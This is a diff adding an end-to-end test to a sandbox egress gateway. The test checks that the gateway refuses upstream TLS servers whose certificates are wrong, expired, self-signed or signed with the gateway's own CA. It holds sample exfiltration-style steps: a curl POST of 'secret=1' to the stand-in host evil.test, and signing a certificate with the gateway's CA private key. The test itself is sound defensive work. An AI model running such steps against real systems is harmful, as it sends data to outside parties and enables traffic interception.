@@ -13,11 +13,15 @@ Not repeated here: the Host/SNI/absolute-form/pipelining differential
 
 from __future__ import annotations
 
+import datetime
 import json
+import subprocess
 
 import pytest
+from sandgate.enforcer.run import STATE_DIR
+from sandgate.proxy.gateway_ca import ca_key_file, ensure_ec_ca
 from support import sandbox
-from support.sandbox import python
+from support.sandbox import PYTHON, curl, python
 from test_http_hardening import copy_h2, settled_requests
 
 pytestmark = pytest.mark.e2e
@@ -54,7 +58,8 @@ for label, probe in probes.items():
     try:
         context = ssl.create_default_context()
         context.set_alpn_protocols(probe.get("alpn", ["h2"]))
-        s = context.wrap_socket(socket.create_connection(("api.allowed.test", 443), timeout=5), server_hostname="api.allowed.test")
+        host, port = probe.get("host", "api.allowed.test"), probe.get("port", 443)
+        s = context.wrap_socket(socket.create_connection((host, port), timeout=5), server_hostname=host)
         config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False, validate_inbound_headers=False)
         conn = h2.connection.H2Connection(config=config)
         conn.initiate_connection()
@@ -300,3 +305,133 @@ def test_http2_streams_are_each_held_to_the_rules(net, tmp_path):
     ], seen
     allowed = r.events(kind="request", verdict="allow")
     assert sorted(e["method"] for e in allowed) == ["GET"] * 4, r.describe()
+
+
+# --- upstreams the gateway must not trust --------------------------------------------
+
+# A TLS server per port (argv: log, then port:cert:key...) on evil.test's address:
+# logs each request's first line, answers 200.
+TLS_SERVER = r"""
+import socket, ssl, sys, threading
+log = open(sys.argv[1], "a", buffering=1)
+def serve(port, cert, key):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(cert, key)
+    listener = socket.create_server(("203.0.113.66", int(port)))
+    while True:
+        conn, _ = listener.accept()
+        try:
+            tls = context.wrap_socket(conn, server_side=True)
+            data = tls.recv(65536)
+            line = data.split(b"\r\n")[0].decode(errors="replace")
+            log.write(port + " " + line + "\n")
+            tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
+            tls.close()
+        except (OSError, ssl.SSLError):
+            conn.close()
+for spec in sys.argv[2:]:
+    threading.Thread(target=serve, args=spec.split(":"), daemon=True).start()
+print("ready", flush=True)
+threading.Event().wait()
+"""
+
+UPSTREAM_RULES = """\
+version: 1
+profiles:
+  default:
+    rules:
+      - allow: evil.test
+        ports: [8441, 8442, 8443, 8444, 8445]
+        methods: [GET, POST]
+        id: probe-upstreams
+"""
+
+
+def certificate(directory, label, name, issuer=None, expired=False):
+    """(cert, key) files for `name`, signed by `issuer` (key, cert), else self-signed
+    as a CA (the probe's own CA when `label` is "ca")."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+    from cryptography.x509.oid import NameOID
+
+    now = datetime.datetime.now(datetime.UTC)
+    key = ec.generate_private_key(ec.SECP256R1())
+    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
+    signer_key, issuer_name = (key, subject) if issuer is None else (issuer[0], issuer[1].subject)
+    start, end = (now - datetime.timedelta(days=30), now - datetime.timedelta(days=1)) if expired else (now - datetime.timedelta(days=1), now + datetime.timedelta(days=1))
+    builder = (
+        x509.CertificateBuilder().subject_name(subject).issuer_name(issuer_name)
+        .public_key(key.public_key()).serial_number(x509.random_serial_number())
+        .not_valid_before(start).not_valid_after(end)
+        .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
+        .add_extension(x509.BasicConstraints(ca=label == "ca", path_length=None), critical=True)
+    )  # fmt: skip
+    cert = builder.sign(signer_key, hashes.SHA256())
+    cert_file, key_file = directory / f"{label}.pem", directory / f"{label}.key"
+    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
+    key_file.write_bytes(
+        key.private_bytes(
+            serialization.Encoding.PEM,
+            serialization.PrivateFormat.PKCS8,
+            serialization.NoEncryption(),
+        )
+    )
+    return cert_file, key_file, (key, cert)
+
+
+def gateway_ca() -> tuple:
+    """The gateway's own CA (key, certificate), made as a run would make it."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import serialization
+
+    confdir = STATE_DIR / "ca"
+    ensure_ec_ca(confdir)
+    pem = ca_key_file(confdir).read_bytes()
+    key = serialization.load_pem_private_key(pem, None)
+    return key, x509.load_pem_x509_certificate(pem)
+
+
+def test_an_upstream_the_gateway_cannot_verify_never_gets_the_request(net, tmp_path):
+    certs = tmp_path / "certs"
+    certs.mkdir()
+    ca_cert, _, ca = certificate(certs, "ca", "sandgate probe CA")
+    servers = {
+        8441: certificate(certs, "other-name", "other.test", ca),
+        8442: certificate(certs, "expired", "evil.test", ca, expired=True),
+        8443: certificate(certs, "self-signed", "evil.test"),
+        8444: certificate(certs, "gateway-ca", "evil.test", gateway_ca()),
+        8445: certificate(certs, "good", "evil.test", ca),  # the control
+    }
+    log = tmp_path / "tls-server.log"
+    log.touch()
+    argv = ["ip", "netns", "exec", net.internet_ns, PYTHON, "-I", "-S", "-c", TLS_SERVER, log]
+    argv += [f"{port}:{cert}:{key}" for port, (cert, key, _) in servers.items()]
+    server = subprocess.Popen(argv, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
+    try:
+        assert server.stdout.readline().strip() == "ready"
+        rules = tmp_path / "rules.yaml"
+        rules.write_text(UPSTREAM_RULES)
+        steps = {}
+        for port in servers:
+            url = f"https://evil.test:{port}/public/x"
+            steps[f"h1_{port}"] = curl("-X", "POST", "-d", "secret=1", url)  # the front door
+        h2 = {f"h2_{port}": {"host": "evil.test", "port": port, "streams": [req(path="/public/y", authority=f"evil.test:{port}")]} for port in servers}  # fmt: skip
+        steps["h2"] = python(H2_PROBE, "h2-probes.json")  # h2 only: mitmproxy
+        r = sandbox.run(
+            net, tmp_path, steps, rules=rules, setup=with_h2_probes(h2),
+            extra=("--extra-ca", str(ca_cert)),
+        )  # fmt: skip
+    finally:
+        server.kill()
+        server.wait()
+    got = lines(r["h2"])
+    for port in (8441, 8442, 8443, 8444):
+        assert r[f"h1_{port}"].status == 502, (port, r.describe())
+        assert got[f"h2_{port}"] in ("502", "closed"), (port, got, r.describe())
+    assert r["h1_8445"].status == 200 and got["h2_8445"] == "200", (got, r.describe())
+    # Only the server the gateway could verify got a request.
+    assert sorted(log.read_text().splitlines()) == [
+        "8445 GET /public/y HTTP/1.1",
+        "8445 POST /public/x HTTP/1.1",
+    ]
